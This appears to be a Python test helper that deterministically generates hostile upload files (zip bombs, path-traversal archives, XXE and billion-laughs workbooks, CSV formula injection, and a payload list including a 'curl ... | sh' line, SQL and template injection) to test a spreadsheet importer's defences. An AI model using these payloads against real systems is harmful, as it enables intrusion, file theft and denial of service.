"""Hostile files: every family makes as many different ones as are asked for, the same ones each time."""

from __future__ import annotations

import bz2
import gzip
import io
import random
import stat
import zipfile
from collections.abc import Callable, Iterator

from tests.imports.files import workbook

Made = tuple[str, bytes]
HEADER = b"hushallsnr;antal_barn\r\n"
ROWS = HEADER + b"H1;2\r\nH2;0\r\n"
SHEET = "xl/worksheets/sheet1.xml"
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_files(count: int, seed: int = 20201201) -> Iterator[tuple[str, str, bytes]]:
    """Family, file name and content, the families in turn."""
    dice = random.Random(seed)
    families = list(FAMILIES)
    for place in range(count):
        family = families[place % len(families)]
        name, content = FAMILIES[family](dice)
        yield family, name, content


def parts(rows: int = 3) -> dict[str, bytes]:
    """The parts of a good workbook."""
    filled = [["hushallsnr", "antal_barn"], *([f"H{row}", row] for row in range(rows))]
    with zipfile.ZipFile(io.BytesIO(workbook({"hushall": filled}))) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def packed(members: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", how) as opened:
        for name, member in members.items():
            opened.writestr(name, member)
    return content.getvalue()


def book_with(dice: random.Random, changed: dict[str, bytes]) -> Made:
    return dice.choice(("hushall.xlsx", "hushall.csv", "HUSHALL.XLSM", "bilaga.zip")), packed(parts() | changed)


def sheet_of(rows: bytes) -> bytes:
    return b'<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (SPREADSHEET.encode(), rows)


def text_row(line: int, *cells: bytes) -> bytes:
    told = b"".join(b'<c t="inlineStr"><is><t>%b</t></is></c>' % cell for cell in cells)
    return b'<row r="%d">%b</row>' % (line, told)


HEAD_ROW = text_row(1, b"hushallsnr", b"antal_barn")


def bomb(dice: random.Random) -> Made:
    filler = dice.choice((b"\0", b"H1;2\r\n", b"a"))
    size = dice.randrange(2, 40) << 20
    return "bomb.zip", packed({"hushall.csv": HEADER + filler * (size // len(filler))})


def bomb_of_many(dice: random.Random) -> Made:
    member = HEADER + b"H1;2\r\n" * 100_000
    return "manga.zip", packed({f"hushall{place}.csv": member for place in range(dice.randrange(101, 140))})


def overlapping(dice: random.Random) -> Made:
    """Entries of the directory that all lead to the same packed bytes."""
    content = bytearray(packed({f"hushall{place}.csv": ROWS * 50 for place in range(dice.randrange(2, 9))}))
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 42 : at + 46] = b"\0\0\0\0"
        at = content.find(b"PK\x01\x02", at + 1)
    return "samma.zip", bytes(content)


def nested(dice: random.Random) -> Made:
    content = packed({"hushall.csv": ROWS})
    for depth in range(dice.randrange(1, 12)):
        content = packed({f"inre{depth}.zip": content, "las.csv": ROWS})
    return "yttre.zip", content


def leading_out(dice: random.Random) -> Made:
    names = ("../../etc/cron.d/x.csv", "/etc/passwd", "..\\..\\x.csv", "C:\\hushall.csv", "a/../../hushall.csv")
    if dice.random() < 0.3:
        info = zipfile.ZipInfo("hushall.csv")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w") as opened:
            opened.writestr(info, dice.choice(("/etc/passwd", "../.env")))
        return "lank.zip", content.getvalue()
    # zipfile itself would mend a backslash when it writes, so it is put in afterwards.
    name = dice.choice(names)
    return "ut.zip", packed({"x" * len(name): ROWS}).replace(b"x" * len(name), name.encode())


def twice(dice: random.Random) -> Made:
    name = b"hushall%d.csv" % dice.randrange(10, 99)
    other = b"x" * len(name)
    same = dice.choice((name, name.upper()))
    return "dubbel.zip", packed({name.decode(): ROWS, other.decode(): ROWS}).replace(other, same)


def locked(dice: random.Random) -> Made:
    content = bytearray(packed({"hushall.csv": ROWS * dice.randrange(1, 50)}))
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return "last.zip", bytes(content)


def oddly_packed(dice: random.Random) -> Made:
    how = dice.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
    return "annan.zip", packed({"hushall.csv": ROWS * dice.randrange(1, 50_000)}, how)


def cut_off(dice: random.Random) -> Made:
    whole = dice.choice((packed(parts()), packed({"hushall.csv": ROWS * 500})))
    return dice.choice(("hushall.xlsx", "hushall.zip")), whole[: dice.randrange(4, len(whole) - 1)]


def spoilt(dice: random.Random) -> Made:
    """The packed bytes of a member are not what its checksum says."""
    content = bytearray(packed({"hushall.csv": dice.randbytes(5000)}))
    for _ in range(dice.randrange(1, 9)):
        content[dice.randrange(60, 4900)] ^= dice.randrange(1, 256)
    return "skadad.zip", bytes(content)


def entity(dice: random.Random) -> Made:
    """XXE: a document type that names a file or an address."""
    where = dice.choice(("file:///etc/passwd", "http://169.254.169.254/latest/", "php://filter/x", "\\\\192.0.2.1\\x"))
    kind = dice.choice(('<!ENTITY x SYSTEM "%s">', '<!ENTITY %% x SYSTEM "%s"> %%x;'))
    doctype = f"<!DOCTYPE x [{kind % where}]>".encode()
    if dice.random() < 0.3:
        doctype = f'<!DOCTYPE x SYSTEM "{where}">'.encode()
    part = dice.choice(list(parts()))
    return book_with(dice, {part: doctype + parts()[part].partition(b"?>")[2] or doctype + parts()[part]})


def laughs(dice: random.Random) -> Made:
    """Billion laughs, and the one long entity said over and over."""
    depth = dice.randrange(6, 12)
    told = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, depth))
    body = f"&l{depth - 1};"
    if dice.random() < 0.4:
        told, body = "", "&l0;" * 100_000
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "{"ha" * dice.randrange(1, 5000)}">{told}]>'
    rows = sheet_of(HEAD_ROW + text_row(2, body.encode()))
    return book_with(dice, {dice.choice((SHEET, "xl/styles.xml", "xl/workbook.xml")): doctype.encode() + rows})


def other_alphabet(dice: random.Random) -> Made:
    """XML in an encoding in which a document type could hide from whoever looks for it."""
    encoding = dice.choice(("utf-16", "utf-16-be", "cp037", "cp500", "utf-7", "iso-8859-1", "utf-32"))
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + sheet_of(HEAD_ROW).decode()
    return book_with(dice, {SHEET: text.encode(encoding)})


def deep(dice: random.Random) -> Made:
    levels = dice.choice((60, 500, 10_000, 100_000))
    nested_tags = b"<a>" * levels + b"</a>" * levels
    return book_with(dice, {dice.choice((SHEET, "xl/styles.xml", "docProps/app.xml")): sheet_of(nested_tags)})


def macros(dice: random.Random) -> Made:
    part = dice.choice(
        ("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.xml", "xl/VBA/x.xml", "xl/run.exe", "")
    )
    if part:
        return book_with(dice, {part: b"<x/>" + dice.randbytes(50).hex().encode()})
    types = parts()["[Content_Types].xml"].replace(b"sheet.main", b"sheet.macroEnabled.main")
    return book_with(dice, {"[Content_Types].xml": types.replace(b"officedocument.spreadsheetml", b"ms-excel")})


def linked(dice: random.Random) -> Made:
    """A workbook that would have a spreadsheet program fetch something from elsewhere."""
    part = dice.choice(
        (
            "xl/externalLinks/externalLink1.xml",
            "xl/connections.xml",
            "xl/embeddings/oleObject1.bin",
            "xl/queryTables/q.xml",
        )
    )
    if dice.random() < 0.5:
        return book_with(dice, {f"xl/{part}": b"<x/>"})
    kind = dice.choice(("externalLinkPath", "oleObject", "image", "attachedTemplate"))
    target = dice.choice(("http://192.0.2.9/x", "file://192.0.2.9/x", "\\\\192.0.2.9\\x"))
    told = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    part = "xl/_rels/workbook.xml.rels"
    return book_with(dice, {part: parts()[part].replace(b"</Relationships>", told.encode())})


FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.9/","x")', "=WEBSERVICE(A1)", "=DDE(1;2;3)")


def formulas(dice: random.Random) -> Made:
    formula = dice.choice(FORMULAS)
    if dice.random() < 0.4:
        return "hushall.csv", b'hushallsnr;orsakskod\r\nH1;"%b"\r\n' % formula.replace('"', '""').encode()
    escaped = formula[1:].replace("&", "&amp;").replace("<", "&lt;").encode()
    cell = b'<row r="2"><c r="A2"><f>%b</f><v>2</v></c></row>' % escaped
    return book_with(dice, {SHEET: sheet_of(HEAD_ROW + cell)})


def long_cell(dice: random.Random) -> Made:
    size = dice.choice((40_000, 300_000, 2_000_000))
    if dice.random() < 0.5:
        return "hushall.csv", b'hushallsnr;orsakskod\r\nH1;"' + b"long\r\n" * (size // 6) + b'"\r\n'
    inside = b"".join(dice.randbytes(8).hex().encode() for _ in range(size // 16))
    shapes = (text_row(1, inside), b"<!--" + inside + b"-->", b'<row r="' + inside + b'"/>')
    return book_with(dice, {SHEET: sheet_of(shapes[0] if size < 300_000 else dice.choice(shapes))})


def many_columns(dice: random.Random) -> Made:
    columns = dice.randrange(61, 3000)
    if dice.random() < 0.5:
        return "hushall.csv", HEADER + b";".join(b"x" for _ in range(columns)) + b"\r\n"
    return book_with(dice, {SHEET: sheet_of(text_row(1, b"hushallsnr", *[b"x"] * columns))})


def far_down(dice: random.Random) -> Made:
    line = dice.choice((1_048_577, 2_000_000, 10**10, 10**30, -5))
    return book_with(dice, {SHEET: sheet_of(text_row(line, b"hushallsnr"))})


def many_rows(dice: random.Random) -> Made:
    rows = dice.randrange(500_001, 520_000)
    told = HEADER + b"".join(b"H%d;%d\r\n" % (row, row % 9) for row in range(rows))
    return dice.choice((("hushall.csv", told), ("hushall.zip", packed({"hushall.csv": told}))))


def bloated_styles(dice: random.Random) -> Made:
    many = dice.randrange(100_001, 200_000)
    styles = b'<styleSheet xmlns="%b"><cellXfs>%b</cellXfs></styleSheet>' % (SPREADSHEET.encode(), b"<xf/>" * many)
    return book_with(dice, {"xl/styles.xml": styles + b"<!--" + dice.randbytes(90_000).hex().encode() + b"-->"})


def bloated_texts(dice: random.Random) -> Made:
    many = dice.randrange(1_000_001, 1_100_000)
    told = b"".join(b"<si><t>%x</t></si>" % dice.randrange(1 << 32) for _ in range(many))
    return book_with(dice, {"xl/sharedStrings.xml": b'<sst xmlns="%b">%b</sst>' % (SPREADSHEET.encode(), told)})


OTHER_KINDS = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    b"\x7fELF\x02\x01\x01\0",
    b"MZ\x90\0\x03\0\0\0",
    b"\xff\xd8\xff\xe0\0\x10JFIF",
    b"GIF89a\x01\0\x01\0",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"Rar!\x1a\x07\x01\0",
    b"7z\xbc\xaf\x27\x1c",
    b"SQLite format 3\0",
    b"\xca\xfe\xba\xbe\0\0\0\x34",
)


def other_kind(dice: random.Random) -> Made:
    name = dice.choice(("hushall.csv", "hushall.xlsx", "deltagare.zip", "hushall"))
    return name, dice.choice(OTHER_KINDS) + dice.randbytes(dice.randrange(100, 9000))


def other_packing(dice: random.Random) -> Made:
    pack = dice.choice((gzip.compress, bz2.compress))
    return dice.choice(("hushall.csv", "hushall.zip")), pack(b"\0" * (dice.randrange(1, 60) << 20))


def other_text(dice: random.Random) -> Made:
    told = dice.choice(
        (
            "<html><script>alert(1)</script></html>",
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
            "#!/bin/sh\ncurl http://192.0.2.9 | sh\n",
            '{"__proto__": {"admin": true}}',
            "'; DROP TABLE participant; --",
            "{{ 7*7 }}${7*7}<%= 7*7 %>",
            "{\\rtf1\\ansi{\\object}}",
        )
    )
    return dice.choice(("hushall.csv", "deltagare.csv", "x.csv", "x.xlsx")), (told * dice.randrange(1, 90)).encode()


def bad_encoding(dice: random.Random) -> Made:
    text = ROWS.decode()
    ways = (
        text.encode("utf-32"),
        text.encode("cp037"),
        b"\xff\xfe" + ROWS + b"x",
        ROWS + b"\xc3\x28\x81\x8d\x90\x9d",
        ROWS.replace(b"2", b"\0"),
        b"\xef\xbb\xbf" + ROWS + b"\xff\x81",
        ROWS + bytes(dice.randrange(1, 8) for _ in range(20)),
        "\ud800".encode("utf-16-le", "surrogatepass").join((b"\xff\xfe", text.encode("utf-16-le"))),
    )
    return "hushall.csv", dice.choice(ways)


def endless_line(dice: random.Random) -> Made:
    filler = dice.choice((b";", b"x", b'"', b"x;", b" ", "å".encode()))
    return "hushall.csv", HEADER + filler * (dice.randrange(2, 12) << 20)


def odd_headers(dice: random.Random) -> Made:
    ways = (
        b"",
        b" \r\n\r\n",
        b"hushallsnr;hushallsnr\r\n1;2\r\n",
        b"a;b\r\n1;2\r\n",
        b";;;\r\n",
        b'"',
        b"\xef\xbb\xbf",
    )
    return dice.choice(("hushall.csv", "x.csv", "deltagare.csv")), dice.choice(ways) or b"\n"


def picture_of_markup(dice: random.Random) -> Made:
    name = dice.choice(("xl/media/image1.png", "xl/media/a.jpeg", "xl/printerSettings/printerSettings1.bin"))
    space = dice.choice((b"", b" \n", b"\xef\xbb\xbf"))
    return book_with(dice, {name: space + b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>' + sheet_of(b"")})


def broken_markup(dice: random.Random) -> Made:
    part = dice.choice(("xl/workbook.xml", "[Content_Types].xml", SHEET, "xl/styles.xml"))
    whole = parts()[part]
    ways = (whole[: len(whole) // 2], b"", dice.randbytes(300), whole.replace(b"</", b"<"), b"<x", whole + b"<y/>")
    return book_with(dice, {part: dice.choice(ways)})


def hostile_name(dice: random.Random) -> Made:
    names = (
        "../../../etc/passwd",
        "C:\\x\\hushall.csv",
        "a" * 3000,
        "<script>alert(1)</script>.csv",
        "\u202egnp.csv",
        "%s%n",
        ".",
    )
    return dice.choice(names), dice.choice((b"\0\1\2", b"a;b\r\n", OTHER_KINDS[0]))


def too_large(dice: random.Random) -> Made:
    return "stor.csv", ROWS + b"x" * (50 * 1024 * 1024 + dice.randrange(9))


FAMILIES: dict[str, Callable[[random.Random], Made]] = {
    made.__name__: made
    for made in (
        *(bomb, bomb_of_many, overlapping, nested, leading_out, twice, locked, oddly_packed, cut_off, spoilt),
        *(entity, laughs, other_alphabet, deep, macros, linked, formulas, long_cell, many_columns, far_down),
        *(many_rows, bloated_styles, bloated_texts, other_kind, other_packing, other_text, bad_encoding),
        *(endless_line, odd_headers, picture_of_markup, broken_markup, hostile_name, too_large),
    )
}
